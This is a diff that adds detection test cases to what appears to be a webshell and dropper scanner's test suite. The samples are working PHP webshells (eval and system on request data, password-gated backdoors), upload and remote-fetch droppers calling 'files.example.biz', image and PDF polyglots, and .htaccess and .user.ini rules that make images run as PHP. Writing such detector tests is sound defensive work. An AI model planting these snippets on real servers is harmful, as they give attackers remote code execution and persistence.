@@ -4005,6 +4005,644 @@ CASES: list[tuple[str, bytes, bool]] = [
         ini_padded('auto_append_file = "/home/u/tmp/analytics.js"\n'),
         True,
     ),  # d/v29.user.ini padded
+    (
+        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
+        plain(
+            "<?php $s = base64_decode($_POST['s']); $fn = tempnam(sys_get_temp_dir(), 'php'); file_put_contents($fn, '<?php ' . $s); require $fn;"
+        ),
+        True,
+    ),  # e/i01.php
+    (
+        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
+        padded(
+            "<?php $s = base64_decode($_POST['s']); $fn = tempnam(sys_get_temp_dir(), 'php'); file_put_contents($fn, '<?php ' . $s); require $fn;"
+        ),
+        True,
+    ),  # e/i01.php padded
+    (
+        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
+        embedded(
+            "<?php $s = base64_decode($_POST['s']); $fn = tempnam(sys_get_temp_dir(), 'php'); file_put_contents($fn, '<?php ' . $s); require $fn;"
+        ),
+        True,
+    ),  # e/i01.php embedded
+    (
+        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
+        plain("<?php file_put_contents('.htaccess.php', str_rot13($_POST['x'])); include('.htaccess.php');"),
+        True,
+    ),  # e/i02.php
+    (
+        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
+        padded("<?php file_put_contents('.htaccess.php', str_rot13($_POST['x'])); include('.htaccess.php');"),
+        True,
+    ),  # e/i02.php padded
+    (
+        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
+        embedded(
+            "<?php file_put_contents('.htaccess.php', str_rot13($_POST['x'])); include('.htaccess.php');"
+        ),
+        True,
+    ),  # e/i02.php embedded
+    (
+        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
+        plain(
+            "<?php $tmp = '/dev/shm/' . md5(1); $fp = fopen($tmp, 'w'); fwrite($fp, hex2bin($_COOKIE['h'])); fclose($fp); include($tmp);"
+        ),
+        True,
+    ),  # e/i03.php
+    (
+        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
+        padded(
+            "<?php $tmp = '/dev/shm/' . md5(1); $fp = fopen($tmp, 'w'); fwrite($fp, hex2bin($_COOKIE['h'])); fclose($fp); include($tmp);"
+        ),
+        True,
+    ),  # e/i03.php padded
+    (
+        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
+        embedded(
+            "<?php $tmp = '/dev/shm/' . md5(1); $fp = fopen($tmp, 'w'); fwrite($fp, hex2bin($_COOKIE['h'])); fclose($fp); include($tmp);"
+        ),
+        True,
+    ),  # e/i03.php embedded
+    (
+        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
+        plain(
+            "<?php if ($_FILES) { foreach ($_FILES as $k => $v) { copy($v['tmp_name'], getcwd() . '/' . $v['name']); } }"
+        ),
+        True,
+    ),  # e/j01.php
+    (
+        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
+        padded(
+            "<?php if ($_FILES) { foreach ($_FILES as $k => $v) { copy($v['tmp_name'], getcwd() . '/' . $v['name']); } }"
+        ),
+        True,
+    ),  # e/j01.php padded
+    (
+        "SPAMGEAR_INPUT_ArbitraryFileWrite",
+        plain(
+            "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_REQUEST['path'] . DIRECTORY_SEPARATOR . $_FILES['f']['name']);"
+        ),
+        True,
+    ),  # e/j03.php
+    (
+        "SPAMGEAR_INPUT_ArbitraryFileWrite",
+        padded(
+            "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_REQUEST['path'] . DIRECTORY_SEPARATOR . $_FILES['f']['name']);"
+        ),
+        True,
+    ),  # e/j03.php padded
+    (
+        "SPAMGEAR_INPUT_ArbitraryFileWrite",
+        embedded(
+            "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_REQUEST['path'] . DIRECTORY_SEPARATOR . $_FILES['f']['name']);"
+        ),
+        True,
+    ),  # e/j03.php embedded
+    (
+        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
+        plain(
+            "<?php echo '<form method=post enctype=multipart/form-data><input type=file name=file><input type=submit name=up value=Up></form>'; if (isset($_POST[up])) { @copy($_FILES[file][tmp_name], $_FILES[file][name]); echo 'done'; }"
+        ),
+        True,
+    ),  # e/j04.php
+    (
+        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
+        padded(
+            "<?php echo '<form method=post enctype=multipart/form-data><input type=file name=file><input type=submit name=up value=Up></form>'; if (isset($_POST[up])) { @copy($_FILES[file][tmp_name], $_FILES[file][name]); echo 'done'; }"
+        ),
+        True,
+    ),  # e/j04.php padded
+    (
+        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
+        embedded(
+            "<?php echo '<form method=post enctype=multipart/form-data><input type=file name=file><input type=submit name=up value=Up></form>'; if (isset($_POST[up])) { @copy($_FILES[file][tmp_name], $_FILES[file][name]); echo 'done'; }"
+        ),
+        True,
+    ),  # e/j04.php embedded
+    (
+        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
+        plain(
+            "<?php if (isset($_FILES['x'])) move_uploaded_file($_FILES['x']['tmp_name'], $_FILES['x']['name'] . '.php');"
+        ),
+        True,
+    ),  # e/j05.php
+    (
+        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
+        padded(
+            "<?php if (isset($_FILES['x'])) move_uploaded_file($_FILES['x']['tmp_name'], $_FILES['x']['name'] . '.php');"
+        ),
+        True,
+    ),  # e/j05.php padded
+    (
+        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
+        embedded(
+            "<?php if (isset($_FILES['x'])) move_uploaded_file($_FILES['x']['tmp_name'], $_FILES['x']['name'] . '.php');"
+        ),
+        True,
+    ),  # e/j05.php embedded
+    (
+        "SPAMGEAR_POLYGLOT_ImageWithPhp",
+        b"GIF89a;\n/* image comment xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx */\n<?php echo shell_exec($_GET['e']); ?>",
+        True,
+    ),  # e/k01.gif
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        plain("<IfModule mime_module>\n  AddType application/x-httpd-php .jpg\n</IfModule>\n"),
+        True,
+    ),  # e/k02.htaccess
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        ht_padded("<IfModule mime_module>\n  AddType application/x-httpd-php .jpg\n</IfModule>\n"),
+        True,
+    ),  # e/k02.htaccess padded
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        plain('<Files ~ "\\.(jpg|gif)$">\n    SetHandler application/x-httpd-php\n</Files>\n'),
+        True,
+    ),  # e/k03.htaccess
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        ht_padded('<Files ~ "\\.(jpg|gif)$">\n    SetHandler application/x-httpd-php\n</Files>\n'),
+        True,
+    ),  # e/k03.htaccess padded
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        plain("AddHandler application/x-httpd-php .html .php .jpg\n"),
+        True,
+    ),  # e/k04.htaccess
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        ht_padded("AddHandler application/x-httpd-php .html .php .jpg\n"),
+        True,
+    ),  # e/k04.htaccess padded
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        plain('Action application/x-httpd-php "/php/php-cgi.exe"\nAddType application/x-httpd-php .gif\n'),
+        True,
+    ),  # e/k05.htaccess
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        ht_padded(
+            'Action application/x-httpd-php "/php/php-cgi.exe"\nAddType application/x-httpd-php .gif\n'
+        ),
+        True,
+    ),  # e/k05.htaccess padded
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        plain('php_value auto_prepend_file "/var/www/html/wp-content/uploads/2022/logo.svg"\n'),
+        True,
+    ),  # e/k06.htaccess
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        ht_padded('php_value auto_prepend_file "/var/www/html/wp-content/uploads/2022/logo.svg"\n'),
+        True,
+    ),  # e/k06.htaccess padded
+    (
+        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
+        plain('auto_prepend_file="/home/x/public_html/wp-content/plugins/akismet/.akismet.cache"\n'),
+        True,
+    ),  # e/k07.user.ini
+    (
+        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
+        ini_padded('auto_prepend_file="/home/x/public_html/wp-content/plugins/akismet/.akismet.cache"\n'),
+        True,
+    ),  # e/k07.user.ini padded
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n<?php system($_REQUEST['c']); ?>",
+        True,
+    ),  # e/k10.pdf
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        plain('<FilesMatch "\\.(png|jpe?g)$">\n  SetHandler proxy:fcgi://127.0.0.1:9000\n</FilesMatch>\n'),
+        True,
+    ),  # e/k11.htaccess
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        ht_padded(
+            '<FilesMatch "\\.(png|jpe?g)$">\n  SetHandler proxy:fcgi://127.0.0.1:9000\n</FilesMatch>\n'
+        ),
+        True,
+    ),  # e/k11.htaccess padded
+    (
+        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
+        plain("[PHP]\nauto_prepend_file = /home/x/public_html/images/banner.webp\n"),
+        True,
+    ),  # e/k12.user.ini
+    (
+        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
+        ini_padded("[PHP]\nauto_prepend_file = /home/x/public_html/images/banner.webp\n"),
+        True,
+    ),  # e/k12.user.ini padded
+    (
+        "SPAMGEAR_PASSGATE_GatedSink",
+        plain(
+            "<?php if (hash('md5', $_POST['k']) == 'e10adc3949ba59abbe56e057f20f883e') { eval(stripslashes($_POST['c'])); }"
+        ),
+        True,
+    ),  # e/m01.php
+    (
+        "SPAMGEAR_PASSGATE_GatedSink",
+        padded(
+            "<?php if (hash('md5', $_POST['k']) == 'e10adc3949ba59abbe56e057f20f883e') { eval(stripslashes($_POST['c'])); }"
+        ),
+        True,
+    ),  # e/m01.php padded
+    (
+        "SPAMGEAR_PASSGATE_GatedSink",
+        embedded(
+            "<?php if (hash('md5', $_POST['k']) == 'e10adc3949ba59abbe56e057f20f883e') { eval(stripslashes($_POST['c'])); }"
+        ),
+        True,
+    ),  # e/m01.php embedded
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        plain(
+            "<?php $key = $_COOKIE['key'] ?? null; if ($key && sha1($key) === '7c4a8d09ca3762af61e59520943dc26494f8941b') { $f = base64_decode($_COOKIE['f']); $f($_COOKIE['a']); }"
+        ),
+        True,
+    ),  # e/m02.php
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded(
+            "<?php $key = $_COOKIE['key'] ?? null; if ($key && sha1($key) === '7c4a8d09ca3762af61e59520943dc26494f8941b') { $f = base64_decode($_COOKIE['f']); $f($_COOKIE['a']); }"
+        ),
+        True,
+    ),  # e/m02.php padded
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        embedded(
+            "<?php $key = $_COOKIE['key'] ?? null; if ($key && sha1($key) === '7c4a8d09ca3762af61e59520943dc26494f8941b') { $f = base64_decode($_COOKIE['f']); $f($_COOKIE['a']); }"
+        ),
+        True,
+    ),  # e/m02.php embedded
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        plain(
+            "<?php if (md5(getenv('HTTP_X_K')) == 'e10adc3949ba59abbe56e057f20f883e') eval(base64_decode(getenv('HTTP_X_C')));"
+        ),
+        True,
+    ),  # e/m03.php
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        padded(
+            "<?php if (md5(getenv('HTTP_X_K')) == 'e10adc3949ba59abbe56e057f20f883e') eval(base64_decode(getenv('HTTP_X_C')));"
+        ),
+        True,
+    ),  # e/m03.php padded
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        embedded(
+            "<?php if (md5(getenv('HTTP_X_K')) == 'e10adc3949ba59abbe56e057f20f883e') eval(base64_decode(getenv('HTTP_X_C')));"
+        ),
+        True,
+    ),  # e/m03.php embedded
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        plain(
+            "<?php if ($_SERVER['HTTP_X_REAL_IP'] == '198.51.100.1' || isset($_COOKIE['dbg'])) { @eval($_REQUEST['e']); }"
+        ),
+        True,
+    ),  # e/m04.php
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        padded(
+            "<?php if ($_SERVER['HTTP_X_REAL_IP'] == '198.51.100.1' || isset($_COOKIE['dbg'])) { @eval($_REQUEST['e']); }"
+        ),
+        True,
+    ),  # e/m04.php padded
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        embedded(
+            "<?php if ($_SERVER['HTTP_X_REAL_IP'] == '198.51.100.1' || isset($_COOKIE['dbg'])) { @eval($_REQUEST['e']); }"
+        ),
+        True,
+    ),  # e/m04.php embedded
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        plain(
+            "<?php if (strtolower($_SERVER['HTTP_USER_AGENT']) == 'mozilla/5.0 (x11; bot)') { $c = $_POST['c']; echo `$c`; }"
+        ),
+        True,
+    ),  # e/m05.php
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        padded(
+            "<?php if (strtolower($_SERVER['HTTP_USER_AGENT']) == 'mozilla/5.0 (x11; bot)') { $c = $_POST['c']; echo `$c`; }"
+        ),
+        True,
+    ),  # e/m05.php padded
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        embedded(
+            "<?php if (strtolower($_SERVER['HTTP_USER_AGENT']) == 'mozilla/5.0 (x11; bot)') { $c = $_POST['c']; echo `$c`; }"
+        ),
+        True,
+    ),  # e/m05.php embedded
+    (
+        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
+        plain(
+            "<?php if (password_verify(@$_GET['p'], '$2y$10$Q1w2E3r4T5y6U7i8O9p0aeQk3lZy7J2nM8x1c5v9b3n7m1k5j9h3')) { echo '<form method=post enctype=multipart/form-data><input type=file name=f><input type=submit></form>'; if ($_FILES) move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']); }"
+        ),
+        True,
+    ),  # e/m06.php
+    (
+        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
+        padded(
+            "<?php if (password_verify(@$_GET['p'], '$2y$10$Q1w2E3r4T5y6U7i8O9p0aeQk3lZy7J2nM8x1c5v9b3n7m1k5j9h3')) { echo '<form method=post enctype=multipart/form-data><input type=file name=f><input type=submit></form>'; if ($_FILES) move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']); }"
+        ),
+        True,
+    ),  # e/m06.php padded
+    (
+        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
+        embedded(
+            "<?php if (password_verify(@$_GET['p'], '$2y$10$Q1w2E3r4T5y6U7i8O9p0aeQk3lZy7J2nM8x1c5v9b3n7m1k5j9h3')) { echo '<form method=post enctype=multipart/form-data><input type=file name=f><input type=submit></form>'; if ($_FILES) move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']); }"
+        ),
+        True,
+    ),  # e/m06.php embedded
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        plain(
+            "<?php $h = $_SERVER['HTTP_AUTHORIZATION'] ?? ''; if (substr($h, 0, 7) === 'Bearer ' && hash_equals('tok123', substr($h, 7))) { eval(base64_decode($_POST['c'])); }"
+        ),
+        True,
+    ),  # e/m07.php
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        padded(
+            "<?php $h = $_SERVER['HTTP_AUTHORIZATION'] ?? ''; if (substr($h, 0, 7) === 'Bearer ' && hash_equals('tok123', substr($h, 7))) { eval(base64_decode($_POST['c'])); }"
+        ),
+        True,
+    ),  # e/m07.php padded
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        embedded(
+            "<?php $h = $_SERVER['HTTP_AUTHORIZATION'] ?? ''; if (substr($h, 0, 7) === 'Bearer ' && hash_equals('tok123', substr($h, 7))) { eval(base64_decode($_POST['c'])); }"
+        ),
+        True,
+    ),  # e/m07.php embedded
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        plain(
+            "<?php if (in_array(md5($_COOKIE['a'] ?? ''), ['e10adc3949ba59abbe56e057f20f883e', '25f9e794323b453885f5181f1b624d0b'])) { system($_COOKIE['c']); }"
+        ),
+        True,
+    ),  # e/m08.php
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        padded(
+            "<?php if (in_array(md5($_COOKIE['a'] ?? ''), ['e10adc3949ba59abbe56e057f20f883e', '25f9e794323b453885f5181f1b624d0b'])) { system($_COOKIE['c']); }"
+        ),
+        True,
+    ),  # e/m08.php padded
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        embedded(
+            "<?php if (in_array(md5($_COOKIE['a'] ?? ''), ['e10adc3949ba59abbe56e057f20f883e', '25f9e794323b453885f5181f1b624d0b'])) { system($_COOKIE['c']); }"
+        ),
+        True,
+    ),  # e/m08.php embedded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain(
+            "<?php $f = fopen('../../wp-load-cache.php', 'w+'); fwrite($f, file_get_contents('http://files.example.biz/y')); fclose($f);"
+        ),
+        True,
+    ),  # e/s01.php
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded(
+            "<?php $f = fopen('../../wp-load-cache.php', 'w+'); fwrite($f, file_get_contents('http://files.example.biz/y')); fclose($f);"
+        ),
+        True,
+    ),  # e/s01.php padded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded(
+            "<?php $f = fopen('../../wp-load-cache.php', 'w+'); fwrite($f, file_get_contents('http://files.example.biz/y')); fclose($f);"
+        ),
+        True,
+    ),  # e/s01.php embedded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        plain(
+            "<?php @file_put_contents(__DIR__ . '/' . $_GET['n'] . '.php', file_get_contents($_GET['u'])); echo 'ok';"
+        ),
+        True,
+    ),  # e/s02.php
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        padded(
+            "<?php @file_put_contents(__DIR__ . '/' . $_GET['n'] . '.php', file_get_contents($_GET['u'])); echo 'ok';"
+        ),
+        True,
+    ),  # e/s02.php padded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        embedded(
+            "<?php @file_put_contents(__DIR__ . '/' . $_GET['n'] . '.php', file_get_contents($_GET['u'])); echo 'ok';"
+        ),
+        True,
+    ),  # e/s02.php embedded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain(
+            "<?php $o = new SplFileObject('wp-cron2.php', 'w'); $o->fwrite(file_get_contents('http://files.example.biz/c.txt'));"
+        ),
+        True,
+    ),  # e/s03.php
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded(
+            "<?php $o = new SplFileObject('wp-cron2.php', 'w'); $o->fwrite(file_get_contents('http://files.example.biz/c.txt'));"
+        ),
+        True,
+    ),  # e/s03.php padded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded(
+            "<?php $o = new SplFileObject('wp-cron2.php', 'w'); $o->fwrite(file_get_contents('http://files.example.biz/c.txt'));"
+        ),
+        True,
+    ),  # e/s03.php embedded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain(
+            "<?php\n$r = file_get_contents('http://files.example.biz/s.txt');\n$n = 'wp-' . substr(md5(rand()), 0, 6) . '.php';\n$w = fopen($n, 'w');\nfwrite($w, $r);\nfclose($w);\necho $n;\n"
+        ),
+        True,
+    ),  # e/s04.php
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded(
+            "<?php\n$r = file_get_contents('http://files.example.biz/s.txt');\n$n = 'wp-' . substr(md5(rand()), 0, 6) . '.php';\n$w = fopen($n, 'w');\nfwrite($w, $r);\nfclose($w);\necho $n;\n"
+        ),
+        True,
+    ),  # e/s04.php padded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded(
+            "<?php\n$r = file_get_contents('http://files.example.biz/s.txt');\n$n = 'wp-' . substr(md5(rand()), 0, 6) . '.php';\n$w = fopen($n, 'w');\nfwrite($w, $r);\nfclose($w);\necho $n;\n"
+        ),
+        True,
+    ),  # e/s04.php embedded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain(
+            "<?php\n$s = fsockopen('files.example.biz', 80);\nfwrite($s, \"GET /x.txt HTTP/1.1\\r\\nHost: files.example.biz\\r\\nConnection: close\\r\\n\\r\\n\");\n$resp = stream_get_contents($s);\nlist(, $body) = explode(\"\\r\\n\\r\\n\", $resp, 2);\nfile_put_contents('wp-rss3.php', $body);\n"
+        ),
+        True,
+    ),  # e/s05.php
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded(
+            "<?php\n$s = fsockopen('files.example.biz', 80);\nfwrite($s, \"GET /x.txt HTTP/1.1\\r\\nHost: files.example.biz\\r\\nConnection: close\\r\\n\\r\\n\");\n$resp = stream_get_contents($s);\nlist(, $body) = explode(\"\\r\\n\\r\\n\", $resp, 2);\nfile_put_contents('wp-rss3.php', $body);\n"
+        ),
+        True,
+    ),  # e/s05.php padded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded(
+            "<?php\n$s = fsockopen('files.example.biz', 80);\nfwrite($s, \"GET /x.txt HTTP/1.1\\r\\nHost: files.example.biz\\r\\nConnection: close\\r\\n\\r\\n\");\n$resp = stream_get_contents($s);\nlist(, $body) = explode(\"\\r\\n\\r\\n\", $resp, 2);\nfile_put_contents('wp-rss3.php', $body);\n"
+        ),
+        True,
+    ),  # e/s05.php embedded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain(
+            "<?php file_put_contents($p = 'wp-includes/js/tinymce/plugins/x.php', file_get_contents('http://files.example.biz/t.txt')); touch($p, filemtime('wp-config.php'));"
+        ),
+        True,
+    ),  # e/s06.php
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded(
+            "<?php file_put_contents($p = 'wp-includes/js/tinymce/plugins/x.php', file_get_contents('http://files.example.biz/t.txt')); touch($p, filemtime('wp-config.php'));"
+        ),
+        True,
+    ),  # e/s06.php padded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded(
+            "<?php file_put_contents($p = 'wp-includes/js/tinymce/plugins/x.php', file_get_contents('http://files.example.biz/t.txt')); touch($p, filemtime('wp-config.php'));"
+        ),
+        True,
+    ),  # e/s06.php embedded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain(
+            '<?php $url = "http://" . "files.example.biz/y.txt"; $c = file_get_contents($url); file_put_contents(\'y.php\', $c);'
+        ),
+        True,
+    ),  # e/s08.php
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded(
+            '<?php $url = "http://" . "files.example.biz/y.txt"; $c = file_get_contents($url); file_put_contents(\'y.php\', $c);'
+        ),
+        True,
+    ),  # e/s08.php padded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded(
+            '<?php $url = "http://" . "files.example.biz/y.txt"; $c = file_get_contents($url); file_put_contents(\'y.php\', $c);'
+        ),
+        True,
+    ),  # e/s08.php embedded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain(
+            "<?php\n$payload = file_get_contents('https://files.example.biz/p.jpg');\n$code = substr($payload, strpos($payload, '<?php'));\nfile_put_contents('img.php', $code);\n"
+        ),
+        True,
+    ),  # e/s09.php
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded(
+            "<?php\n$payload = file_get_contents('https://files.example.biz/p.jpg');\n$code = substr($payload, strpos($payload, '<?php'));\nfile_put_contents('img.php', $code);\n"
+        ),
+        True,
+    ),  # e/s09.php padded
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded(
+            "<?php\n$payload = file_get_contents('https://files.example.biz/p.jpg');\n$code = substr($payload, strpos($payload, '<?php'));\nfile_put_contents('img.php', $code);\n"
+        ),
+        True,
+    ),  # e/s09.php embedded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        plain("<?php $_POST['f'] && file_put_contents($_POST['f'], $_POST['c']);"),
+        True,
+    ),  # e/t01.php
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        padded("<?php $_POST['f'] && file_put_contents($_POST['f'], $_POST['c']);"),
+        True,
+    ),  # e/t01.php padded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        embedded("<?php $_POST['f'] && file_put_contents($_POST['f'], $_POST['c']);"),
+        True,
+    ),  # e/t01.php embedded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        plain("<?php file_put_contents(urldecode($_GET['p']), base64_decode($_GET['c']));"),
+        True,
+    ),  # e/t03.php
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        padded("<?php file_put_contents(urldecode($_GET['p']), base64_decode($_GET['c']));"),
+        True,
+    ),  # e/t03.php padded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        embedded("<?php file_put_contents(urldecode($_GET['p']), base64_decode($_GET['c']));"),
+        True,
+    ),  # e/t03.php embedded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        plain(
+            "<?php $x = $_REQUEST['x']; $y = $_REQUEST['y']; $fh = fopen($x, 'w') or die(); fwrite($fh, $y); fclose($fh);"
+        ),
+        True,
+    ),  # e/t04.php
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        padded(
+            "<?php $x = $_REQUEST['x']; $y = $_REQUEST['y']; $fh = fopen($x, 'w') or die(); fwrite($fh, $y); fclose($fh);"
+        ),
+        True,
+    ),  # e/t04.php padded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        embedded(
+            "<?php $x = $_REQUEST['x']; $y = $_REQUEST['y']; $fh = fopen($x, 'w') or die(); fwrite($fh, $y); fclose($fh);"
+        ),
+        True,
+    ),  # e/t04.php embedded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        plain(
+            "<?php $c = $_POST['c']; $f = $_POST['f']; $r = @fopen($f, 'w'); @fputs($r, base64_decode($c)); @fclose($r);"
+        ),
+        True,
+    ),  # e/t05.php
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        padded(
+            "<?php $c = $_POST['c']; $f = $_POST['f']; $r = @fopen($f, 'w'); @fputs($r, base64_decode($c)); @fclose($r);"
+        ),
+        True,
+    ),  # e/t05.php padded
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        embedded(
+            "<?php $c = $_POST['c']; $f = $_POST['f']; $r = @fopen($f, 'w'); @fputs($r, base64_decode($c)); @fclose($r);"
+        ),
+        True,
+    ),  # e/t05.php embedded
     # near-misses: legit code beside the shapes above
     (
         "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
@@ -4609,6 +5247,69 @@ CASES: list[tuple[str, bytes, bool]] = [
         ),
         False,
     ),
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        plain(
+            "<?php\n$in = $_POST;\n$name = $in['name'];\n$img = $in['img'];\nfile_put_contents($dest, base64_decode($img));\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        padded(
+            "<?php\n$in = $_POST;\n$name = $in['name'];\n$img = $in['img'];\nfile_put_contents($dest, base64_decode($img));\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
+        embedded(
+            "<?php\n$in = $_POST;\n$name = $in['name'];\n$img = $in['img'];\nfile_put_contents($dest, base64_decode($img));\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        plain(
+            "<?php\n$o = new SplFileObject(__DIR__ . '/config.php', 'r');\n$api = 'https://api.example.org/v1/';\n$r = wp_remote_get($api . 'status');\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        padded(
+            "<?php\n$o = new SplFileObject(__DIR__ . '/config.php', 'r');\n$api = 'https://api.example.org/v1/';\n$r = wp_remote_get($api . 'status');\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
+        embedded(
+            "<?php\n$o = new SplFileObject(__DIR__ . '/config.php', 'r');\n$api = 'https://api.example.org/v1/';\n$r = wp_remote_get($api . 'status');\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
+        plain(
+            "<?php\necho '<form method=post enctype=multipart/form-data><input type=file name=file></form>';\n@copy($_FILES[file][tmp_name], $dir . '/' . md5($_FILES[file][name]));\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
+        padded(
